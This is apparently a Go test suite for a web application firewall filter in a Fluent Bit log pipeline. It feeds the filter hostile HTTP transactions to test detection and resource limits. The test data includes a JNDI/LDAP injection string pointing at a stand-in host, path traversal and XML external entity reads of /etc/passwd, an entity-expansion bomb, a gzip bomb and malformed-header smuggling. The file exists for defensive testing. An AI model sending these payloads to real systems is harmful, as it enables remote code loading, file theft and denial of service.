package survive

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/filter"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/setting"
)

// attack is found wherever rules look, in headers, arguments and bodies.
const attack = "${jndi:ldap://evil.example/a}"

// request is a record with a request head, and a body if there is one.
func request(method, target, headers, body string) []byte {
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n%s\r\n",
		method, target, headers)
	return event("METHOD", method, "URL", "/", "REQ_HEADER", head, "REQ_BODY", body, "L7_PROTOCOL", "http")
}

func get(target, headers string) []byte { return request("GET", target, headers, "") }

func post(mediaType, body string) []byte { return postOf(mediaType, body, len(body)) }

// postOf claims a length for the body: one that is larger means that the log has cut it.
func postOf(mediaType, body string, length int) []byte {
	return request("POST", "/", fmt.Sprintf("Content-Type: %s\r\nContent-Length: %d\r\n", mediaType, length), body)
}

// numbered repeats a text with its number in the place of %d.
func numbered(n int, format string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

// bomb is a response of compressed spaces, with an error message of a database at its end.
func bomb(t testing.TB, size int) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, err := w.Write(append(bytes.Repeat([]byte(" "), size), "ORA-00942: table or view does not exist"...))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	require.Less(t, b.Len(), size/900, "a bomb of about 1,000:1")
	head := "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n"
	return event("METHOD", "GET", "URL", "/", "REQ_HEADER", "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: a\r\nAccept: */*\r\n\r\n",
		"RSP_HEADER", head, "RSP_BODY", b.String(), "RETCODE", "200", "L7_PROTOCOL", "http")
}

// hostile is a transaction with an attack in the place that is hardest to reach.
type hostile struct {
	name    string
	record  []byte
	partial string // what is not seen of it
	alerts  bool
}

func transactions(t testing.TB) []hostile {
	many, megabyte := sized(t, 100_000, 5_000), sized(t, 1<<20, 1<<16)
	const form, multipart = "application/x-www-form-urlencoded", "multipart/form-data; boundary=BB"
	part := "--BB\r\nContent-Disposition: form-data; name=\"f%d\"\r\n\r\nv\r\n"
	deep := strings.Repeat(`{"a":`, many) + `"` + attack + `"`
	bombed := `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "` + attack + `">` + numbered(20, `<!ENTITY b%d "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">`) +
		`]><x>&b9;&b9;</x>`
	return []hostile{
		{"many headers, the attack in the last", get("/", numbered(many, "X-H%d: v\r\n")+"X-A: "+attack+"\r\n"), "headers", false},
		{"one long header", get("/", "X-A: "+strings.Repeat("abc ", megabyte/4)+attack+"\r\n"), "", true},
		{"NUL in a header", get("/", "X-A: a\x00"+attack+"\r\n"), "", true},
		{"bare CR in a header", get("/", "X-A: a\r"+attack+"\r\n"), "headers", true},
		{"bare LF at the ends of lines", get("/", "X-A: a\nX-B: "+attack+"\n"), "", true},
		{"a line without a colon", get("/", "../../etc/passwd\r\nX-B: b\r\n"), "headers", false},
		{"a line without a name", get("/", ": "+attack+"\r\nX-B: b\r\n"), "headers", false},
		{"folded header", get("/", "X-A: a\r\n "+attack+"\r\n"), "", true},
		{"folded many times", get("/", "X-A: "+strings.Repeat("a", megabyte)+"\r\n"+strings.Repeat(" b\r\n", many)+" "+attack+"\r\n"),
			"headers", false},
		{"long path", get("/"+strings.Repeat("abcdefg/", megabyte/8)+"?a="+attack, ""), "", true},
		{"long argument", get("/?q="+strings.Repeat("abcdefg/", megabyte/8)+attack, ""), "", true},
		{"many arguments", get("/?"+numbered(many, "a%d=1&")+"z="+attack, ""), "arguments", true},
		{"many arguments in a form", post(form, numbered(many, "a%d=1&")+"z="+attack), "arguments", false},
		{"many times the same argument", post(form, strings.Repeat("a=1&", many)+"a="+attack), "arguments", false},
		{"many values in JSON", post("application/json", "["+strings.Repeat("1,", many)+`"`+attack+`"]`), "arguments", false},
		{"deep JSON", post("application/json", deep+strings.Repeat("}", many)), "body", true},
		{"deep JSON that is cut", postOf("application/json", deep, 2*len(deep)), "body", false},
		{"deep JSON of open brackets", post("application/json", strings.Repeat("[", many)), "body", true},
		{"XML that is a bomb of entities", post("text/xml", bombed), "body", false},
		{"XML with an external entity", post("text/xml", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`), "body", false},
		{"deep XML", post("text/xml", strings.Repeat("<a>", many)+attack+strings.Repeat("</a>", many)), "", true},
		{"many parts", post(multipart, numbered(many, part)+"--BB\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n"+attack+"\r\n--BB--\r\n"),
			"", true},
		{"a compressed bomb in the response", bomb(t, sized(t, 64<<20, 4<<20)), "response", false},
	}
}

func TestNoHostileTransactionIsSilentlyClean(t *testing.T) {
	f := open(t, nil)
	for _, c := range transactions(t) {
		t.Run(c.name, func(t *testing.T) {
			var got fate
			begin := time.Now()
			memory := allocated(func() { got = process(t, f, c.record) })
			took := time.Since(begin)
			t.Logf("%d bytes: %s, partial %v, rules %v, %s, %d MB allocated", len(c.record), got.kind, got.partial, got.rules, took, memory>>20)
			require.False(t, got.silent())
			require.Equal(t, c.alerts, got.kind == "alert")
			require.Equal(t, c.partial, strings.Join(got.partial, ","))
			require.Less(t, memory, uint64(192<<20+200*len(c.record)), "bytes allocated, beside 200 for each byte of the record")
			require.Less(t, took, 2*time.Minute)

			again := process(t, f, c.record) // remembered
			require.Equal(t, got.kind, again.kind)
			require.Equal(t, got.partial, again.partial)
		})
	}
	inOneChunk(t, f)
}

// inOneChunk requires that transactions become the same in one chunk as one by one.
func inOneChunk(t *testing.T, f *filter.Filter) {
	var chunk, want []byte
	for _, c := range transactions(t) {
		var out filter.Outcome
		f.Process(c.record, "nano", &out)
		chunk, want = append(chunk, c.record...), append(want, out.Data...)
	}
	var out filter.Outcome
	f.Process(chunk, "nano", &out)
	require.True(t, bytes.Equal(want, out.Data))
}

// Bounds of one record in line: what the engine has not evaluated in time passes, marked.
func TestHostileTransactionsDoNotHoldThePipelineUp(t *testing.T) {
	const budget, reading = 50 * time.Millisecond, 3 * time.Second // the latter for a machine that is busy with other tests
	f := open(t, setting.Map{"inspect_budget": budget.String(), "cache_size": "0"})
	all := transactions(t)
	process(t, f, get("/", "")) // compiles
	for _, c := range all {
		begin := time.Now()
		got := process(t, f, c.record)
		require.Less(t, time.Since(begin), budget+reading, c.name)
		require.False(t, got.silent(), c.name)
	}
	addsUp(t, f, len(all)+1)
}
